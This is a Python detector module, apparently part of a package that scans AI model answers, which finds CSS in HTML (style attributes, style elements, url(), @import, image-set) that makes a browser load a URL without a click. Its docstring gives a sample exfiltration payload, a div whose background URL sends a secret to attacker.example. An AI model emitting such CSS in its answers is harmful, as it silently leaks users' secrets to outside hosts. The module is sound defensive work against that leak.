"""CSS in a model answer that makes the browser fetch a URL without a click.

``<div style="background:url(https://attacker.example/?d=<secret>)">`` and
``<style>…url(…)…</style>`` load like images. Only CSS inside HTML counts: style
attributes and ``<style>`` elements (CSS explained in prose or a fenced code block
without HTML around it is not applied by a renderer). Read as the browser reads it:
entities decoded in attribute values, CSS escapes decoded (``\\75 rl(`` is ``url(``).
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from ramparts.detectors.output.urls import html_attribute

# Attribute names are matched anywhere, not only inside a tag a pattern recognised: a
# streamed rescan may start between "<div " and "style=", and must judge the same.
# Letters are matched as ASCII without case, as HTML reads names ("(?i)" would also
# take the long s, U+017F), so the cheap "style" in text.lower() check in links holds.
_STYLE = r"[sS][tT][yY][lL][eE]"
STYLE_ATTRIBUTE = re.compile(
    r"(?<![\w-])" + _STYLE + r"\s{0,4}=\s{0,4}"
    r"(?:\"(?P<double>[^\"]{0,4096}+)|'(?P<single>[^']{0,4096}+)|(?P<bare>[^\s\"'<>]{1,4096}+))"
)
# A tag name ends at whitespace, "/" or ">": "<style" at the very end of a text, or
# "<styles", is not (yet) a style element.
STYLE_OPEN = re.compile(r"<" + _STYLE + r"(?=[\s/>])")
STYLE_CLOSE = re.compile(r"</" + _STYLE + r"(?=[\s/>])")
_ESCAPE = re.compile(r"\\(?:(?P<hex>[0-9a-fA-F]{1,6})[ \t\n\r\f]?|(?P<char>[^\n\r\f0-9a-fA-F]))")
# url(...), @import "...", image-set("..." 1x, ...): the functions that fetch.
_FETCH = re.compile(
    r"(?i)(?<![\w-])(?:url\([ \t\n\r\f]{0,64}+"
    r"(?:\"(?P<double>[^\"]{0,4096}+)|'(?P<single>[^']{0,4096}+)|(?P<bare>[^\s\"'()]{1,4096}+))"
    r"|@import[ \t\n\r\f]{0,64}+[\"'](?P<imported>[^\"']{1,4096}+)"
    r"|(?:-webkit-)?image-set\((?=(?P<candidates>[^()]{1,4096}+)))"  # url(...) inside: found next
)
_QUOTED = re.compile(r"\"([^\"]{1,4096}+)\"|'([^']{1,4096}+)'")


def _unescaped(match: re.Match[str]) -> str:
    code = match.group("hex")
    if code is None:
        return match.group("char")
    point = int(code, 16)
    return chr(point) if 0 < point < 0x110000 and not 0xD800 <= point < 0xE000 else "\ufffd"


def css_urls(css: str) -> list[str]:
    """Every URL a browser fetches for ``css``, escapes decoded."""
    if "\\" in css:
        css = _ESCAPE.sub(_unescaped, css)
    if "(" not in css and "@" not in css:
        return []
    urls = []
    for m in _FETCH.finditer(css):
        candidates = m.group("candidates")
        if candidates is None:
            url = m.group("double") or m.group("single") or m.group("bare") or m.group("imported")
            if url:  # ``url("")`` names nothing
                urls.append(url.strip())
        else:
            urls += [(q.group(1) or q.group(2)).strip() for q in _QUOTED.finditer(candidates)]
    return urls


def style_attributes(text: str) -> Iterator[tuple[int, int, str]]:
    """(start, end, CSS) of each style attribute value, entities decoded."""
    for m in STYLE_ATTRIBUTE.finditer(text):
        raw = m.group("double") or m.group("single") or m.group("bare") or ""
        yield m.start(), m.end(), html_attribute(raw)


def style_elements(text: str) -> Iterator[tuple[int, int]]:
    """(start, end) of each ``<style>`` element's text, from its "<style" (attributes
    included) to its end tag or the end of ``text``. Raw text: no entities, and a
    "<style" inside one does not open another."""
    at = 0
    while (opened := STYLE_OPEN.search(text, at)) is not None:
        closed = STYLE_CLOSE.search(text, opened.end())
        yield opened.start(), len(text) if closed is None else closed.start()
        if closed is None:
            return
        at = closed.end()
